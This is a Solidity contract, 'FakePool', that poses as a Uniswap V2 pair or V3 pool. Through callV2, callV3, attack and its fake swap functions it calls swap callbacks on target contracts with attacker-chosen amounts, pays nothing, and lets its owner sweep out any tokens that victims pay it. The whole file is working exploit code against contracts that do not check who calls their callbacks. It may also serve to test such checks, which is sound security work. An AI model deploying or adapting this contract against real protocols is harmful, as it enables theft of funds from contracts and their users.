// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title FakePool
/// @notice Not a pool: it looks like a Uniswap V2 pair / V3 pool to naive checks and calls
///         swap callbacks on a target with attacker-chosen arguments, hoping to be paid.
/// @dev Views (token0, token1, factory, fee, tickSpacing, getReserves, slot0, liquidity)
///      return whatever the constructor and setters chose. swap() never pays anything out.
///      Calls are low-level: a target's revert is bubbled up unchanged. It also accepts the
///      callbacks itself (counting them), so one FakePool can be the target of another.
contract FakePool {
    address public immutable owner;
    address public token0;
    address public token1;
    address public factory;
    uint24 public fee;
    int24 public tickSpacing;
    uint112 internal reserve0;
    uint112 internal reserve1;
    uint160 internal sqrtPriceX96;
    int24 internal tick;
    uint128 public liquidity;
    uint256 public callbacksReceived;

    event CallbackSent(address indexed target, bytes4 indexed selector, bytes data);
    event CallbackReceived(address indexed caller, bytes4 indexed selector, bytes data);

    error OnlyOwner(address account);

    constructor(address token0_, address token1_, address factory_, uint24 fee_) {
        owner = msg.sender;
        token0 = token0_;
        token1 = token1_;
        factory = factory_;
        fee = fee_;
        tickSpacing = 60;
        reserve0 = 1e21;
        reserve1 = 1e21;
        sqrtPriceX96 = uint160(1 << 96);
        liquidity = 1e21;
    }

    function setState(uint112 reserve0_, uint112 reserve1_, uint160 sqrtPriceX96_, int24 tick_)
        external
    {
        reserve0 = reserve0_;
        reserve1 = reserve1_;
        sqrtPriceX96 = sqrtPriceX96_;
        tick = tick_;
    }

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (reserve0, reserve1, uint32(block.timestamp));
    }

    function slot0() external view returns (uint160, int24, uint16, uint16, uint16, uint8, bool) {
        return (sqrtPriceX96, tick, 0, 1, 1, 0, true);
    }

    /// @notice Call target.uniswapV2Call(sender, amount0, amount1, data).
    function callV2(
        address target,
        address sender,
        uint256 amount0,
        uint256 amount1,
        bytes calldata data
    ) external returns (bytes memory) {
        return _attack(
            target,
            abi.encodeWithSignature(
                "uniswapV2Call(address,uint256,uint256,bytes)", sender, amount0, amount1, data
            )
        );
    }

    /// @notice Call target.uniswapV3SwapCallback(amount0Delta, amount1Delta, data).
    function callV3(address target, int256 amount0Delta, int256 amount1Delta, bytes calldata data)
        external
        returns (bytes memory)
    {
        return _attack(
            target,
            abi.encodeWithSignature(
                "uniswapV3SwapCallback(int256,int256,bytes)", amount0Delta, amount1Delta, data
            )
        );
    }

    /// @notice Call target with arbitrary calldata.
    function attack(address target, bytes calldata data) external returns (bytes memory) {
        return _attack(target, data);
    }

    /// @notice V2-pair-shaped swap: pays nothing, calls the flash callback when data is set.
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data)
        external
    {
        if (data.length != 0) {
            _attack(
                to,
                abi.encodeWithSignature(
                    "uniswapV2Call(address,uint256,uint256,bytes)",
                    msg.sender,
                    amount0Out,
                    amount1Out,
                    data
                )
            );
        }
    }

    /// @notice V3-pool-shaped swap: pays nothing, asks the caller for the whole input.
    function swap(address, bool zeroForOne, int256 amountSpecified, uint160, bytes calldata data)
        external
        returns (int256 amount0, int256 amount1)
    {
        int256 input = amountSpecified > 0 ? amountSpecified : -amountSpecified;
        (amount0, amount1) = zeroForOne ? (input, int256(0)) : (int256(0), input);
        _attack(
            msg.sender,
            abi.encodeWithSignature(
                "uniswapV3SwapCallback(int256,int256,bytes)", amount0, amount1, data
            )
        );
    }

    /// @notice Move `amount` of `token` held here to `to` (the owner takes what it was paid).
    function sweep(address token, address to, uint256 amount) external {
        if (msg.sender != owner) revert OnlyOwner(msg.sender);
        (bool ok, bytes memory out) =
            token.call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        if (!ok) _bubble(out);
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata) external {
        _received();
    }

    function uniswapV3SwapCallback(int256, int256, bytes calldata) external {
        _received();
    }

    function _received() internal {
        callbacksReceived += 1;
        emit CallbackReceived(msg.sender, msg.sig, msg.data);
    }

    function _attack(address target, bytes memory data) internal returns (bytes memory) {
        emit CallbackSent(target, bytes4(data), data);
        (bool ok, bytes memory out) = target.call(data);
        if (!ok) _bubble(out);
        if (out.length == 0 && target.code.length == 0) revert("FakePool: target has no code");
        return out;
    }

    function _bubble(bytes memory out) internal pure {
        assembly {
            revert(add(out, 32), mload(out))
        }
    }
}
